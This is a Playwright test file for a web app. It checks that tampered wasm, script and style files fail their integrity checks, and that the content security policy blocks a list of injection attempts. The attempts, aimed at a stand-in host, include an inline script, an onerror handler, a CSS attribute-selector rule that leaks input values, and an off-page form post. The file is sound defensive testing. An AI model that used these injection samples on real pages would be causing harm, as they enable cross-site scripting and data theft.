/**
 * What the page runs is what was built, and nothing else: files that were changed on the host or on the way are
 * refused, and the content security policy holds against whoever gets a script or a form into the page.
 */
import { expect, test } from '../fixtures/test.mjs';
import { enter, go, title } from '../steps/people.mjs';

/** What changes nothing in a module: a section of nobody's. And what changes nothing in a script or a style sheet. */
const MORE = { wasm: [0, 2, 1, 0x78], js: [0x0a], css: [0x0a] };

/** The host sends this file with something else in it. */
async function tamper(page, pattern) {
  await page.route(pattern, async (route) => {
    const answer = await route.fetch();
    const [, type] = route.request().url().match(/\.(\w+)$/);
    const body = Buffer.concat([await answer.body(), Buffer.from(MORE[type])]);
    await route.fulfill({ response: answer, body });
  });
}

const refused = (page) => page.getByRole('alert').filter({ hasText: 'could not be loaded completely' });

test('a module that is not that of the release is refused in words', async ({ page, mistd, watch }) => {
  watch.allowNetworkErrors();
  await tamper(page, /\/mist-web_bg-[0-9a-f]{16}\.wasm$/);
  await page.goto(mistd.origin);
  await expect(refused(page)).toContainText('not that of this release');
});

test('so is its script', async ({ page, mistd, watch }) => {
  watch.allow(/digest in the 'integrity' attribute/);
  watch.allowNetworkErrors();
  await tamper(page, /\/mist-web-[0-9a-f]{16}\.js$/);
  await page.goto(mistd.origin);
  await expect(refused(page)).toBeVisible();
});

test('so is its style sheet', async ({ page, mistd, watch }) => {
  watch.allow(/digest in the 'integrity' attribute/);
  watch.allowNetworkErrors();
  await tamper(page, /\/mist-web-[0-9a-f]{16}\.css$/);
  await page.goto(mistd.origin);
  await expect(refused(page)).toContainText('.css');
  await page.unrouteAll({ behavior: 'wait' });
  await refused(page).getByRole('button', { name: 'Retry' }).click();
  await expect(page.getByRole('textbox', { name: 'Email' })).toBeFocused();
  await expect.poll(() => page.evaluate(() => document.getElementById('boot'))).toBe(null);
});

test('so is a part, whose screen says so', async ({ page, mistd, watch }) => {
  watch.allow(/digest in the 'integrity' attribute|SRI's integrity checks failed/);
  await tamper(page, /\/part-[^/]*\.wasm$/);
  await enter(page, mistd);
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Keys' }).click();
  await expect(title(page, 'Screen not loaded')).toBeVisible();
  // One part that is refused is enough for the screen to say so; others may still be under way.
  await page.unrouteAll({ behavior: 'wait' });
  await page.getByRole('button', { name: 'Retry', exact: true }).click();
  await expect(title(page, 'Keys')).toBeVisible();
});

test('everything index.html loads is named by its content and has its digest', async ({ mistd }) => {
  const page = await (await mistd.fetch('/')).text();
  const tags = page.match(/<(?:script|link)[^>]*>/g).filter((tag) => /rel="(?:stylesheet|modulepreload)"|<script/.test(tag));
  expect(tags.length).toBeGreaterThanOrEqual(4);
  const loaded = tags.map((tag) => tag.match(/ (?:src|href)="\.\/([^"]+)".*? integrity="sha384-([^"]+)"/));
  loaded.push(page.match(/data-css="\.\/([^"]+)".*?data-css-digest="sha384-([^"]+)"/));
  loaded.push(page.match(/data-wasm="\.\/([^"]+)".*?data-digest="sha384-([^"]+)"/));
  for (const [, name, digest] of loaded) {
    const bytes = await (await mistd.fetch(`/${name}`)).arrayBuffer();
    const [sha256, sha384] = await Promise.all(
      ['SHA-256', 'SHA-384'].map(async (kind) => Buffer.from(await crypto.subtle.digest(kind, bytes))),
    );
    expect(sha384.toString('base64'), name).toBe(digest);
    expect(name).toContain(sha256.toString('hex').slice(0, 16));
  }
});

/** What somebody who got this far would try, each by the directive that stops it. */
const ATTEMPTS = {
  'an inline script': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.stolen = true';
      document.head.append(script);
    },
  ],
  'a script of another host': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'http://127.0.0.9:9/x.js';
      document.head.append(script);
    },
  ],
  'an event handler in markup': [
    'script-src-attr',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.stolen = true">');
    },
  ],
  'text as a program': [
    'script-src',
    () => {
      try {
        globalThis.setTimeout('globalThis.stolen = true', 0);
      } catch {
        // Some browsers throw.
      }
    },
  ],
  'a style sheet of its own': [
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.textContent = 'input[value^="a"] { background: url(http://127.0.0.9:9/a) }';
      document.head.append(style);
    },
  ],
  'a style in markup': [
    'style-src-attr',
    () => document.body.insertAdjacentHTML('beforeend', '<p style="color: red">x</p>'),
  ],
  'a form that leaves the page': [
    'form-action',
    () => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = 'http://127.0.0.9:9/';
      document.body.append(form);
      form.submit();
    },
  ],
  'a frame': [
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'http://127.0.0.9:9/';
      document.body.append(frame);
    },
  ],
  'a request to another host': ['connect-src', () => fetch('http://127.0.0.9:9/').catch(() => {})],
  'an image of another host': ['img-src', () => void (new Image().src = 'http://127.0.0.9:9/x.png')],
};

for (const [what, [directive, attempt]] of Object.entries(ATTEMPTS)) {
  test(`the policy stops ${what}`, async ({ page, mistd, watch }) => {
    await enter(page, mistd);
    await go(page, 'Account');
    watch.allow(/Content Security Policy|Refused to/);
    watch.allowReport(directive);
    // Playwright calls what was stopped a request, too.
    watch.server('http://127.0.0.9:9');
    const stopped = page.evaluate(
      () =>
        new Promise((done) =>
          addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective), {
            once: true,
          }),
        ),
    );
    await page.evaluate(attempt);
    expect(await stopped).toBe(directive);
    expect(await page.evaluate(() => globalThis.stolen)).toBeUndefined();
    expect(new URL(page.url()).origin).toBe(mistd.origin);
  });
}
